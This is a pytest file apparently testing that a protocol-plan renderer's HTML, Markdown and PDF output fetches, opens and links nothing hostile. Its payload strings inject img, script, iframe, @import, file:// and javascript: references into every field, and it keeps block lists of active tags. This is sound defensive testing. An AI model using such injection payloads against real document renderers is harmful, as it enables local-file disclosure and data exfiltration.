"""The rendering lock-down, proven on the worst plan we can write.

Every free-text field of the demo plan, and the text of each of its SOPs, carries references to
a secret file outside the plan's folder, to a file inside it, to a local HTTP server started
here, and to data: and javascript: URLs, in HTML form (img, link, @import, url(), iframe,
object, svg image, base, inline style) and in Markdown form (images, inline links, autolinks and
reference-style definitions, also inside list items and block quotes). The plan is rendered as
every document in every format, and the test records

* every URL handed to WeasyPrint's fetcher (only the packaged fonts, and the column rules the
  checklist draws itself, may be served);
* every file Python opens and every socket it connects, through an audit hook (PEP 578), and,
  where ``strace`` works, every file the whole process opens, C libraries included;
* every request the local server receives (none may arrive);

and then checks the output itself: no active markup, no link but http, https or mailto, and
neither secret anywhere.
"""

from __future__ import annotations

import io
import os
import re
import shutil
import subprocess
import sys
from contextlib import contextmanager
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, Iterator

import pytest
import yaml

from protolint.plan import load_plan, read_plan_file
from protolint.plan.source import load_source
from protolint.render import FORMATS, KINDS, render
from protolint.render.checklist import GRID
from tests.plan_tree import leaves, parent_of
from tests.leak_server import leak_server

REPO = Path(__file__).resolve().parents[2]


def link_allowed(url: str) -> bool:
    """The test's own judge (not the code's): an absolute http, https or mailto address."""
    return re.match(r"(?i)(https?://|mailto:)", url) is not None


DEMO = REPO / "demo_protocol" / "plan.yaml"
OUTSIDE_SECRET = "outside-secret-4be1d07a"
INSIDE_SECRET = "inside-secret-93c2e5f1"

# {file}: the secret outside the plan folder; {inside}: a file beside the plan that nothing
# names as a text file; {leak}: the recording server; {folder}: the plan's folder as a URL.
_PAYLOAD = (
    ' <img src="{file}"> <img src="{leak}/img.png"> <img src="{inside}"> <base href="{folder}/">'
    ' <link rel="stylesheet" href="{leak}/link.css"> <style>@import url("{leak}/import.css"); @import "{file}";'
    ' body {{ background: url("{file}") }} p {{ background-image: url(data:image/png;base64,iVBORw0KGgo=) }}</style>'
    ' <script src="{leak}/s.js">fetch("{leak}/script")</script> <iframe src="{file}"></iframe>'
    ' <object data="{file}"></object> <svg><image href="{leak}/svg.png"/></svg>'
    ' <div style="background:url({leak}/style.png)">styled</div> <a href="javascript:alert(1)">js</a>'
    ' ![f]({file}) ![n]({leak}/md.png) ![d](data:image/png;base64,iVBORw0KGgo=) ![r]({inside})'
    ' [j](javascript:alert(1)) [f]({file}) [d](data:text/html;base64,PHNjcmlwdD4=) [r]({inside})'
    ' [a \\[b\\]](javascript:alert(3)) <{file}> <{leak}/autolink> <javascript:alert(2)> [one][r1] [two][r2] [three][r3]'
    '\n\n[r1]: {file}\n\n- [r2]: javascript:alert(4)\n\n> [r3]:\n> {leak}/reference\n'
)
# For fields with a length limit: the same kinds of reference, in fewer characters.
_SHORT_PAYLOAD = (' <img src="{file}"> <style>@import "{leak}/s.css"</style> ![n]({leak}/m.png) [f]({file})'
                  ' [j](javascript:x) <{file}> [r][r1]\n\n- [r1]: {file}\n')
_SOP_TEXT = "# Heading\n\nSOP text with every kind of reference.\n" + _PAYLOAD + "\n## Second heading\n\n" + _PAYLOAD


def _set(data: Any, path: tuple, value: Any) -> None:
    parent_of(data, path)[path[-1]] = value


def _pointer_path(pointer: str) -> tuple:
    parts = [part.replace("~1", "/").replace("~0", "~") for part in pointer.split("/")[1:]]
    return tuple(int(part) if part.isdigit() else part for part in parts)


def hostile_plan_text(payloads: tuple[str, ...]) -> tuple[str, int]:
    """The demo plan with the first of ``payloads`` a field accepts appended to every string the
    plan format accepts as free text, and how many fields carry one.

    Every string is tried; the loader's own findings say which ones are not free text (ids,
    dates, closed vocabularies, references, file paths) or are too short for a payload, and
    those get the next payload, then are put back.
    """
    data = load_source(DEMO.read_bytes(), str(DEMO)).data
    original = {path: value for path, value in leaves(data) if isinstance(value, str) and path[-1] != "rule"}
    stage = dict.fromkeys(original, 0)
    for path, value in original.items():
        _set(data, path, value + payloads[0])
    for _ in range(12):
        text = yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10_000)
        problems = load_plan(load_source(text.encode(), str(DEMO))).problems
        if not problems:
            return text, len(stage)
        for problem in problems:
            at = _pointer_path(problem.pointer)
            for path in [p for p in stage if p[:len(at)] == at]:
                stage[path] += 1
                if stage[path] < len(payloads):
                    _set(data, path, original[path] + payloads[stage[path]])
                else:
                    _set(data, path, original[path])
                    del stage[path]
    raise AssertionError(f"the hostile plan does not load: {problems[0].message}")


@pytest.fixture(scope="module")
def hostile_folder(tmp_path_factory: pytest.TempPathFactory):
    """A plan folder whose plan and SOP texts are hostile, beside a secret file; and the server."""
    root = tmp_path_factory.mktemp("lockdown")
    outside = root / "outside.txt"
    outside.write_text(OUTSIDE_SECRET, encoding="utf-8")
    folder = root / "plan"
    (folder / "sops").mkdir(parents=True)
    (folder / "inside.txt").write_text(INSIDE_SECRET, encoding="utf-8")
    with leak_server() as server:
        payload = _PAYLOAD.format(file=outside.as_uri(), leak=server.url, inside="inside.txt", folder=folder.as_uri())
        for name in ("SOP-RAT-001.md", "SOP-IMG-002.md", "SOP-MON-003.md"):
            (folder / "sops" / name).write_text(_SOP_TEXT.replace(_PAYLOAD, payload), encoding="utf-8")
        short = _SHORT_PAYLOAD.format(file=outside.as_uri(), leak=server.url)
        text, count = hostile_plan_text((payload, short))
        plan = folder / "plan.yaml"
        plan.write_text(text, encoding="utf-8")
        yield {"plan": plan, "folder": folder, "outside": outside, "inside": folder / "inside.txt",
               "requests": server.requests, "fields": count, "leak": server.url}


@contextmanager
def recorded_io() -> Iterator[dict[str, list]]:
    """Record the files Python opens and the sockets it connects while the block runs."""
    log: dict[str, list] = {"open": [], "connect": [], "process": []}
    state = {"on": True}

    def hook(event: str, args: tuple) -> None:
        if not state["on"]:
            return
        if event == "open" and args and isinstance(args[0], (str, bytes, os.PathLike)):
            log["open"].append(os.fsdecode(args[0]))
        elif event == "socket.connect":
            log["connect"].append(args[1] if len(args) > 1 else args)
        elif event in ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn"):
            log["process"].append(args)

    _hooks.append(hook)
    try:
        yield log
    finally:
        state["on"] = False
        _hooks.remove(hook)


# An audit hook cannot be removed once added: one dispatcher is installed, and the recorders
# come and go.
_hooks: list = []
sys.addaudithook(lambda event, args: [hook(event, args) for hook in list(_hooks)] and None)


def _allowed_roots() -> tuple[str, ...]:
    import sysconfig

    roots = {sys.prefix, sys.base_prefix, sys.exec_prefix, str(REPO / "protolint"), str(REPO / "templates"),
             str(REPO / "schemas"), *sysconfig.get_paths().values()}
    return tuple(os.path.realpath(root) for root in roots)


def _outside_allowed(paths: list[str], folder: Path, allowed_in_folder: set[Path]) -> list[str]:
    """Paths opened that are neither code or resources of the installation nor allowed inputs."""
    import tempfile

    roots = _allowed_roots()
    # WeasyPrint writes the fonts it was given (our packaged ones) to a private temporary
    # folder for fontconfig, and reads them back from there.
    font_cache = os.path.join(os.path.realpath(tempfile.gettempdir()), "weasyprint-")
    bad = []
    for path in paths:
        real = os.path.realpath(path)
        if Path(real) in {p.resolve() for p in allowed_in_folder} or real.startswith(font_cache):
            continue
        if real.startswith(str(folder.resolve())) or not real.startswith(roots):
            bad.append(path)
    return bad


def test_the_hostile_plan_carries_the_payload_in_every_free_text_field(hostile_folder) -> None:
    loaded = read_plan_file(str(hostile_folder["plan"]))
    plan = loaded.plan
    assert hostile_folder["fields"] >= 60
    for text in (plan.study.title, plan.study.sponsor, plan.instruments[0].name, plan.instruments[0].conventions,
                 plan.sops[0].title, plan.sops[0].summary, plan.sops[0].location, plan.rater_pools[0].name,
                 plan.rater_pools[0].monitoring.remediation, plan.deviations[0].handling, plan.waivers[0].reason):
        assert "<img src=" in text and "[r1]:" in text, text
    assert [t.path for t in loaded.sop_texts] == ["sops/SOP-RAT-001.md", "sops/SOP-IMG-002.md", "sops/SOP-MON-003.md"]


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("kind", KINDS)
def test_rendering_fetches_and_opens_nothing_outside_the_package(kind: str, fmt: str, hostile_folder, monkeypatch) -> None:
    import protolint.render.pdf as pdf_module

    fetched: list[str] = []
    locked = pdf_module.fetcher_class()

    class RecordingFetcher(locked):  # type: ignore[misc, valid-type]
        def fetch(self, url, headers=None):  # noqa: ANN001, ANN201 - WeasyPrint's signature
            fetched.append(url)
            return super().fetch(url, headers)

    monkeypatch.setattr(pdf_module, "make_fetcher", lambda images=(): RecordingFetcher(pdf_module.served_assets(images)))
    plan_file = hostile_folder["plan"]
    with recorded_io() as log:
        loaded = read_plan_file(str(plan_file))
        output = render(kind, fmt, loaded)
    texts = {hostile_folder["folder"] / "sops" / name for name in ("SOP-RAT-001.md", "SOP-IMG-002.md", "SOP-MON-003.md")}
    assert _outside_allowed(log["open"], hostile_folder["folder"], {plan_file, *texts}) == []
    assert str(hostile_folder["outside"]) not in log["open"] and str(hostile_folder["inside"]) not in log["open"]
    assert log["connect"] == []
    # The one process: numpy.testing (imported by scipy.special, which the exact sample-size
    # solver uses) asks `lscpu` about the processor when first imported; nothing from the plan.
    assert all(args[0] == "lscpu" for args in log["process"]), log["process"]
    # The fonts, and the one image the checklist's own code draws (its column rules).
    generated = {GRID.column_rules_url} if kind == "checklist" else set()
    assert set(fetched) <= set(pdf_module.packaged_assets()) | generated
    assert generated <= set(fetched) or fmt != "pdf"
    assert hostile_folder["requests"] == []
    body = output if isinstance(output, bytes) else output.encode()
    assert OUTSIDE_SECRET.encode() not in body and INSIDE_SECRET.encode() not in body
    if fmt == "html":
        _assert_inert_html(output)
    elif fmt == "markdown":
        _assert_inert_markdown(output)
    else:
        _assert_inert_pdf(output, kind)


class _Tags(HTMLParser):
    """Every start tag and its attributes, as a browser's parser sees them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


_ACTIVE_TAGS = {"img", "script", "base", "link", "iframe", "object", "embed", "video", "audio", "image", "form",
                "input", "frame", "source", "track", "use", "feimage"}
_FETCHING_ATTRIBUTES = {"src", "srcset", "data", "background", "poster", "style", "action", "formaction", "xlink:href"}
# Our own markup: the one stylesheet, the document's meta tags, the numeric charts' SVG elements.
_OWN = {"html", "head", "meta", "title", "style", "body"}


def _assert_inert_html(page: str) -> None:
    assert page.count("<style") == 1 and page.index("<style") < page.index("<body")  # only our stylesheet
    # Our charts are the only SVG; they are drawn from numbers alone.
    without_charts = re.sub(r'<svg xmlns="http://www.w3.org/2000/svg" viewBox="[^"]*" role="img" class="chart".*?</svg>',
                            "", page, flags=re.S)
    parser = _Tags()
    parser.feed(without_charts)
    hrefs = []
    for tag, attrs in parser.tags:
        if tag in _OWN:
            continue
        assert tag not in _ACTIVE_TAGS and tag != "svg", (tag, attrs)
        assert not set(attrs) & _FETCHING_ATTRIBUTES, (tag, attrs)
        assert not any(name.startswith("on") for name in attrs), (tag, attrs)
        if "href" in attrs:
            hrefs.append(attrs["href"])
    assert hrefs and all(href.startswith("#") or link_allowed(href) for href in hrefs), hrefs
    assert "&lt;img src=" in page  # the hostile markup is there, as text


def _assert_inert_markdown(text: str) -> None:
    from markdown_it import MarkdownIt

    # Read it as the most permissive wiki would: raw HTML on, every link destination accepted.
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    parser.validateLink = lambda url: True
    tokens = parser.parse(text)
    parts = [part for token in tokens for part in (token, *(token.children or ()))]
    assert not {p.type for p in parts} & {"html_block", "html_inline", "image"}
    hrefs = [str(p.attrGet("href")) for p in parts if p.type == "link_open"]
    assert all(link_allowed(href) for href in hrefs), [h for h in hrefs if not link_allowed(h)]
    assert "&lt;img src=" in text


def _assert_inert_pdf(pdf: bytes, kind: str) -> None:
    import pypdf

    reader = pypdf.PdfReader(io.BytesIO(pdf))
    # Text extraction is most of this test's time: the binder is read whole, to count the SOP
    # texts it prints; the other documents only up to the first page that prints the markup.
    texts = (page.extract_text() for page in reader.pages)
    marker = '<img src="file://'  # printed as text
    if kind == "binder":
        text = "".join(texts)
        assert marker in text
        assert text.count("SOP text with every kind of reference.") == 3
    else:
        assert any(marker in page_text for page_text in texts)
    uris = []
    for page in reader.pages:
        for annotation in page.get("/Annots") or ():
            action = annotation.get_object().get("/A")
            if action is not None and "/URI" in action:
                uris.append(str(action["/URI"]))
    assert all(link_allowed(uri) for uri in uris), uris
    # The plan, and in the binder each SOP text it prints (read before rendering, inside the
    # plan's folder): never a file the hostile plan tried to reach.
    sop_texts = ["sops/SOP-RAT-001.md", "sops/SOP-IMG-002.md", "sops/SOP-MON-003.md"] if kind == "binder" else []
    assert list(reader.attachments) == ["plan.yaml", *sop_texts]
    attached = b"".join(b"".join(contents) for contents in reader.attachments.values())
    assert OUTSIDE_SECRET.encode() not in attached and INSIDE_SECRET.encode() not in attached


def test_whole_process_under_strace_opens_no_secret_and_connects_nowhere(hostile_folder, tmp_path: Path) -> None:
    """C libraries too (fontconfig, Pango, cairo): every open and connect of the process."""
    strace = shutil.which("strace")
    if strace is None:
        pytest.skip("strace is not installed")
    # --seccomp-bpf stops the process only at the traced calls, not at every system call: the
    # same trace at a fraction of the cost. Older strace, or a kernel without seccomp, traces
    # without it.
    fast = ["--seccomp-bpf"]
    if subprocess.run([strace, *fast, "-f", "-o", os.devnull, "true"], capture_output=True).returncode != 0:
        fast = []
        probe = subprocess.run([strace, "-f", "-o", os.devnull, "true"], capture_output=True)
        if probe.returncode != 0:
            pytest.skip("strace cannot trace here (ptrace not permitted)")
    trace, out = tmp_path / "trace.txt", tmp_path / "out" / "binder.pdf"
    out.parent.mkdir()
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    env.pop("SOURCE_DATE_EPOCH", None)
    run = subprocess.run([strace, *fast, "-f", "-s", "4096", "-e", "trace=open,openat,openat2,connect,execve", "-o", str(trace),
                          sys.executable, "-m", "protolint", "render", "binder", str(hostile_folder["plan"]),
                          "--output", str(out)], capture_output=True, text=True, env=env, timeout=600)
    assert run.returncode == 0, run.stderr
    log = trace.read_text(errors="replace")
    opened = re.findall(r'open(?:at2?)?\((?:[A-Z_]+, )?"([^"]+)"', log)
    folder = str(hostile_folder["folder"].resolve())
    in_folder = {os.path.realpath(p) for p in opened if os.path.realpath(p).startswith(folder)}
    expected = {str(hostile_folder["plan"].resolve())} | {
        str((hostile_folder["folder"] / "sops" / name).resolve()) for name in ("SOP-RAT-001.md", "SOP-IMG-002.md", "SOP-MON-003.md")}
    assert in_folder <= expected, in_folder - expected
    assert str(hostile_folder["outside"]) not in opened
    assert not re.search(r"connect\(\d+, \{sa_family=AF_INET6?", log)
    # Programs the libraries start while loading (numpy's `lscpu` probe; ctypes asking
    # `ldconfig` or the compiler where WeasyPrint's C libraries are) are traced with the rest
    # (-f); none is given anything from the plan.
    for call in re.findall(r"^\d+\s+execve\((.*)$", log, re.M)[1:]:  # [0]: this command
        assert folder not in call and "127.0.0.1" not in call and "outside" not in call, call
    assert hostile_folder["requests"] == []
